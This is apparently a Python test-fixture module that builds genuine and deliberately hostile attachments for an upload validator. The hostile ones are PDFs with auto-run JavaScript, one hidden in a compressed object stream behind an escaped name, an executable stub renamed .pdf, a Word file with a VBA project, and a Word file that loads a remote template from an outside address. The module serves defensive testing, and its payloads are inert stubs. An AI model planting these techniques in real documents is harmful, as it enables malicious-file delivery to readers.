"""Real files for the evidence tests: workbooks written with openpyxl, attachments written by the programs
units use (python-docx, Pillow, fpdf2) or, for the hostile ones, by hand the way an attacker would."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

from credit.standard import dataset
from tests.rows import write_sheets

SPEC_HEADERS = {
    "dutycases": ["案例名称", "惩戒对象", "统一社会信用代码", "惩戒措施", "依据", "实施日期", "链接", "所属期间"],
    "dutychecks": ["排查期间", "排查事项", "发现案例数", "案例名称", "涉及主体", "统一社会信用代码", "违背事项",
                   "处理情况", "附件", "所属期间"],
    "dutylinks": ["标题", "发布日期", "发布平台", "链接", "所属期间"],
    "dutyactivity": ["活动名称", "日期", "地点", "参与人数", "形式", "链接", "附件", "所属期间"],
    "dutybulletin": ["通报名称", "通报日期", "统计期间", "链接", "附件", "所属期间"],
}  # fmt: skip


def write_evidence(path: Path, sheets: dict[str, list[dict[str, object]]], title: str | None = None) -> Path:
    """One workbook, one sheet per evidence dataset id, rows by header."""
    named = [
        (dataset(ds_id).name[:31].replace("“", "").replace("”", ""), SPEC_HEADERS[ds_id], rows)
        for ds_id, rows in sheets.items()
    ]
    return write_sheets(path, named, title)


def good_pdf(path: Path) -> Path:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Credit publicity activity summary, October 2026")
    path.parent.mkdir(parents=True, exist_ok=True)
    pdf.output(str(path))
    return path


def good_docx(path: Path, link: str | None = None) -> Path:
    import docx

    doc = docx.Document()
    doc.add_paragraph("信用宣传活动方案")
    if link:  # a hyperlink is an external relationship of its own kind: allowed
        part = doc.part
        rid = part.relate_to(link, docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        assert rid
    path.parent.mkdir(parents=True, exist_ok=True)
    doc.save(str(path))
    return path


def good_png(path: Path, size=(64, 48)) -> Path:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, (200, 30, 30)).save(path, "PNG")
    return path


def good_jpg(path: Path, size=(80, 60)) -> Path:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, (30, 30, 200)).save(path, "JPEG")
    return path


def _pdf(objects: list[bytes]) -> bytes:
    """A small well-formed PDF of the given object bodies (cross-reference table and all)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
]


def pdf_with_javascript(path: Path) -> Path:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    path.write_bytes(_pdf([catalog, *_PAGES]))
    return path


def pdf_with_hidden_javascript(path: Path) -> Path:
    """The action lives in a Flate-compressed object stream, its name written with a #xx escape."""
    hidden = zlib.compress(b"4 0 << /S /J#61vaScript /JS (this.exportDataObject()) >>")
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    objstm = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(hidden)
    path.write_bytes(_pdf([catalog, *_PAGES, objstm + hidden + b"\nendstream"]))
    return path


def exe_named_pdf(path: Path) -> Path:
    """The first bytes of a Windows program (MZ header, PE offset, DOS stub) under a .pdf name."""
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    path.write_bytes(stub + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 400 + b"PE\x00\x00")
    return path


def docx_with_macros(path: Path) -> Path:
    """A Word document from python-docx with a VBA project added, as a .docm renamed .docx carries one."""
    source = good_docx(path.with_suffix(".src.docx"))
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    source.unlink()
    return path


def docx_with_remote_template(path: Path) -> Path:
    """A document whose settings fetch a template from a web address when opened (template injection)."""
    source = good_docx(path.with_suffix(".src.docx"))
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("word/_rels/settings.xml.rels", rels)
    source.unlink()
    return path


def oversize_pdf(path: Path, size: int) -> Path:
    """A real PDF padded past `size` bytes (a scanned report saved at full resolution)."""
    good_pdf(path)
    with open(path, "ab") as fh:
        fh.write(b"%" + b"0" * (size - path.stat().st_size + 1) + b"\n")
    return path
